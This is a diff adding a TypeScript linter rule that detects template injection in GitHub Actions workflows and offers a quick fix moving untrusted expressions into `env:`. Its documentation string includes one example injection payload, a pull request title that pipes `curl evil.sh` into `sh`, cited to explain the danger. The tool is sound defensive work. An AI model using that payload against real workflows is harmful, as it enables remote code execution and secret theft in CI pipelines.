@@ -1,0 +1,239 @@
+import { RUNNER_ENV, normalizeContextPath } from '../knowledge/contexts';
+import { codeSinkFor, type SinkLanguage } from '../knowledge/code-sinks';
+import { parseShell } from '../knowledge/shell';
+import { assessSite, scopeOf, singleContext, type Scope } from '../knowledge/taint';
+import type { ExpressionSite, ParsedFile } from '../parse/document';
+import { parseUses } from '../parse/uses';
+import type { StepView } from '../parse/views';
+import { asMap, scalarText, type Entry } from '../parse/yaml-nodes';
+import type { Fix, OffsetEdit, Rule } from './types';
+
+interface Sink {
+  kind: 'run' | 'input';
+  language: SinkLanguage | 'bash' | 'cmd';
+  /** How a person names the sink: "this `run:` script", "`script` of actions/github-script". */
+  label: string;
+  entry: Entry;
+}
+
+function stepShell(scope: Scope, step: StepView): string {
+  const own = step.shell?.value ?? scope.job?.child('defaults').child('run').string('shell')?.value ?? scope.file.workflow?.child('defaults').child('run').string('shell')?.value;
+  if (own) return own.trim().split(/\s+/)[0].toLowerCase();
+  const runsOn = scalarText(scope.job?.runsOn?.value ?? null) ?? '';
+  return /windows/i.test(runsOn) ? 'pwsh' : 'bash';
+}
+
+/** The code sink an expression site sits in, or null. */
+function sinkOf(file: ParsedFile, site: ExpressionSite, scope: Scope): Sink | null {
+  const step = scope.step;
+  if (!step) return null;
+  const path = site.path;
+  const base = file.workflow ? 4 : 3;
+  if (path.length === base + 1 && path[base] === 'run') {
+    const entry = step.run;
+    if (!entry) return null;
+    const shell = stepShell(scope, step);
+    const language = shell === 'pwsh' || shell === 'powershell' ? 'pwsh' : shell === 'cmd' ? 'cmd' : shell === 'python' ? 'python' : 'bash';
+    return { kind: 'run', language, label: 'this `run:` script', entry };
+  }
+  if (path.length === base + 2 && path[base] === 'with' && typeof path[base + 1] === 'string') {
+    const uses = scalarText(step.uses?.value ?? null);
+    if (!uses) return null;
+    const reference = parseUses(uses);
+    const input = String(path[base + 1]);
+    const entry = step.with.get(input);
+    if (!entry) return null;
+    if (reference.kind === 'docker') return ['entrypoint', 'args'].includes(input.toLowerCase()) ? { kind: 'input', language: 'other', label: `\`${input}\` of a container step`, entry } : null;
+    if (reference.kind !== 'remote') return null;
+    const sink = codeSinkFor(reference.owner, reference.repo, reference.subpath);
+    if (!sink || !sink.inputs.includes(input.toLowerCase())) return null;
+    return { kind: 'input', language: sink.language, label: `\`${input}\` of ${reference.repository}, which runs it as code`, entry };
+  }
+  return null;
+}
+
+export const templateInjection: Rule = {
+  id: 'template-injection',
+  title: 'Untrusted text expanded into code',
+  kinds: ['workflow', 'action'],
+  severity: 'high',
+  confidence: 'high',
+  persona: 'regular',
+  docs: {
+    summary: 'A `${{ }}` expression whose value someone else chooses is pasted into a `run:` script or into an input that an action runs as code, before the shell or interpreter reads it.',
+    why:
+      'Expressions are substituted into the script text before it runs, so a pull request title such as `"; curl evil.sh | sh; #` becomes a command. Ultralytics (2024) put `github.head_ref` into a composite action\'s `run:` under `pull_request_target`; Grafana (2025) put a branch name into `actions/github-script`; Nx (2025) put a pull request title into a bash heredoc and lost its npm token; elementary-data (2026) expanded an `issue_comment` body.',
+    fix: 'Pass the value through an environment variable: add `NAME: ${{ <expression> }}` to the step\'s `env:` and use `"$NAME"` (bash), `$env:NAME` (PowerShell), `%NAME%` (cmd) or `process.env.NAME` (github-script). The quick fix does this for single-context expressions.',
+  },
+  check({ file, report }) {
+    for (const site of file.expressions) {
+      if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
+      const scope = scopeOf(file, site.path);
+      const sink = sinkOf(file, site, scope);
+      if (!sink) continue;
+      const leaves = assessSite(site, scope);
+      if (leaves.length === 0) continue;
+      const single = singleContext(site);
+      for (const leaf of leaves) {
+        const { verdict } = leaf;
+        const fix = single && leaves.length === 1 && scope.step ? moveToEnv(file, site, sink, scope.step, normalizeContextPath(single.path) === normalizeContextPath(leaf.path) ? single.path : null) : null;
+        report({
+          span: { start: leaf.start, end: leaf.end },
+          message: `\`${leaf.path}\` is expanded into ${sink.label}: ${verdict.reason}. Pass it through \`env:\` instead`,
+          severity: verdict.severity,
+          confidence: verdict.confidence,
+          persona: verdict.persona,
+          fixes: fix ? [fix] : [],
+        });
+      }
+    }
+  },
+};
+
+// ---------------------------------------------------------------------------------------------------
+// Quick fix: move the expression into the step's `env:`.
+
+/** `github.event.pull_request.title` → `PULL_REQUEST_TITLE`; `inputs.tag` → `INPUTS_TAG`. */
+export function envNameFor(path: string): string {
+  const trimmed = path.replace(/^github\.event\./i, '').replace(/^github\./i, '');
+  const name = trimmed
+    .replace(/\*/g, 'ALL')
+    .replace(/[^A-Za-z0-9]+/g, '_')
+    .replace(/^_+|_+$/g, '')
+    .toUpperCase();
+  return /^[A-Z_]/.test(name) ? name : `V_${name}`;
+}
+
+/** Quote state at `offset` of a line: scanning the line from its start (heredoc-agnostic, as the fix is unsafe anyway). */
+function quoteState(line: string): 'none' | 'single' | 'double' | 'backtick' {
+  let state: 'none' | 'single' | 'double' | 'backtick' = 'none';
+  for (let i = 0; i < line.length; i++) {
+    const c = line[i];
+    if (c === '\\' && state !== 'single') {
+      i++;
+      continue;
+    }
+    if (state === 'none') {
+      if (c === "'") state = 'single';
+      else if (c === '"') state = 'double';
+      else if (c === '`') state = 'backtick';
+    } else if ((state === 'single' && c === "'") || (state === 'double' && c === '"') || (state === 'backtick' && c === '`')) {
+      state = 'none';
+    }
+  }
+  return state;
+}
+
+function moveToEnv(file: ParsedFile, site: ExpressionSite, sink: Sink, step: StepView, path: string | null): Fix | null {
+  if (!path) return null;
+  const text = file.text;
+  const occurrence = site.occurrence;
+  const scalarType = site.scalar.type;
+  if (scalarType !== 'BLOCK_LITERAL' && scalarType !== 'PLAIN' && scalarType !== 'QUOTE_SINGLE') return null;
+  if (asMap(step.node as never)?.flow) return null;
+  const key = normalizeContextPath(path);
+  const runnerVar = RUNNER_ENV[key] ?? null;
+  const name = runnerVar ?? uniqueName(step, envNameFor(path), text.slice(occurrence.start, occurrence.end));
+  if (!name) return null;
+  const lineStart = file.lines.lineStarts[file.lines.lineAt(occurrence.start)];
+  const scalarStart = (site.scalar.range?.[0] ?? lineStart) + (scalarType === 'QUOTE_SINGLE' ? 1 : 0);
+  const before = text.slice(Math.max(lineStart, scalarStart), occurrence.start);
+  const state = quoteState(before.replace(/^\s*run:\s*/, ''));
+  let replacement: string | null = null;
+  let span = { start: occurrence.start, end: occurrence.end };
+  switch (sink.language) {
+    case 'bash': {
+      const script = scalarText(site.scalar as never) ?? '';
+      const inQuotedHeredoc = parseShell(script).commands.some((command) => command.heredocs.some((h) => h.quoted && h.body.includes(occurrence.text)));
+      if (inQuotedHeredoc) return null;
+      const inHeredoc = parseShell(script).commands.some((command) => command.heredocs.some((h) => h.body.includes(`\${{${occurrence.text}}}`)));
+      if (scalarType === 'QUOTE_SINGLE' && state !== 'none') return null;
+      replacement = inHeredoc || state === 'double' ? `\${${name}}` : state === 'single' ? `'"\${${name}}"'` : `"\${${name}}"`;
+      break;
+    }
+    case 'pwsh':
+      if (state === 'single') return null;
+      replacement = `$env:${name}`;
+      break;
+    case 'cmd':
+      replacement = `%${name}%`;
+      break;
+    case 'javascript': {
+      const open = text[occurrence.start - 1];
+      const close = text[occurrence.end];
+      if ((open === "'" || open === '"' || open === '`') && open === close && state !== 'none') {
+        replacement = `process.env.${name}`;
+        span = { start: occurrence.start - 1, end: occurrence.end + 1 };
+      } else if (state === 'backtick') replacement = `\${process.env.${name}}`;
+      else if (state === 'single' || state === 'double') {
+        const q = state === 'single' ? "'" : '"';
+        replacement = `${q} + process.env.${name} + ${q}`;
+      } else replacement = `process.env.${name}`;
+      break;
+    }
+    default:
+      return null;
+  }
+  if (scalarType === 'QUOTE_SINGLE' && replacement.includes("'")) return null;
+  const edits: OffsetEdit[] = [{ span, newText: replacement }];
+  if (!runnerVar && !hasEnvEntry(step, name)) {
+    const insert = envInsertion(file, step, name, text.slice(occurrence.start, occurrence.end));
+    if (!insert) return null;
+    edits.push(insert);
+  }
+  return {
+    title: runnerVar ? `Use the runner's \`${runnerVar}\` variable instead of expanding \`${path}\`` : `Move \`${path}\` into \`env: ${name}\``,
+    isPreferred: sink.kind === 'run',
+    safety: 'unsafe',
+    edits,
+  };
+}
+
+function hasEnvEntry(step: StepView, name: string): boolean {
+  return step.env.entries.some((entry) => entry.key === name);
+}
+
+/** The env name to use: reuse an entry with the same value, avoid clashing with one with another value. */
+function uniqueName(step: StepView, base: string, expressionText: string): string | null {
+  const entries = step.env.entries;
+  for (let i = 1; i < 50; i++) {
+    const name = i === 1 ? base : `${base}_${i}`;
+    const existing = entries.find((entry) => entry.key === name);
+    if (!existing) return name;
+    if ((scalarText(existing.value) ?? '').trim() === expressionText) return name;
+  }
+  return null;
+}
+
+function envInsertion(file: ParsedFile, step: StepView, name: string, expressionText: string): OffsetEdit | null {
+  const lines = file.lines;
+  const eol = lines.eol;
+  const value = expressionText.includes("'") || expressionText.includes('#') ? `"${expressionText.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"` : expressionText;
+  const lineAfter = (offset: number): number | null => {
+    const line = lines.lineAt(Math.max(0, offset - 1));
+    return line + 1 < lines.lineCount ? lines.lineStarts[line + 1] : null;
+  };
+  const envEntry = step.get('env');
+  if (envEntry) {
+    const map = asMap(envEntry.value);
+    if (!map || map.flow || step.env.entries.length === 0) return null;
+    const entries = step.env.entries;
+    const first = entries[0];
+    const last = entries[entries.length - 1];
+    const column = first.keySpan.start - lines.lineStarts[lines.lineAt(first.keySpan.start)];
+    const at = lineAfter(Math.max(last.valueSpan.end, last.keySpan.end));
+    const textLine = `${' '.repeat(column)}${name}: ${value}`;
+    if (at === null) return { span: { start: file.text.length, end: file.text.length }, newText: `${file.text.endsWith('\n') ? '' : eol}${textLine}${eol}` };
+    return { span: { start: at, end: at }, newText: `${textLine}${eol}` };
+  }
+  const entries = step.entries;
+  if (entries.length === 0) return null;
+  const first = entries[0];
+  const last = entries.reduce((a, b) => (Math.max(b.valueSpan.end, b.keySpan.end) > Math.max(a.valueSpan.end, a.keySpan.end) ? b : a));
+  const column = first.keySpan.start - lines.lineStarts[lines.lineAt(first.keySpan.start)];
+  const pad = ' '.repeat(column);
+  const block = `${pad}env:${eol}${pad}  ${name}: ${value}${eol}`;
+  const at = lineAfter(Math.max(last.valueSpan.end, last.keySpan.end));
+  if (at === null) return { span: { start: file.text.length, end: file.text.length }, newText: `${file.text.endsWith('\n') ? '' : eol}${block}` };
+  return { span: { start: at, end: at }, newText: block };
+}
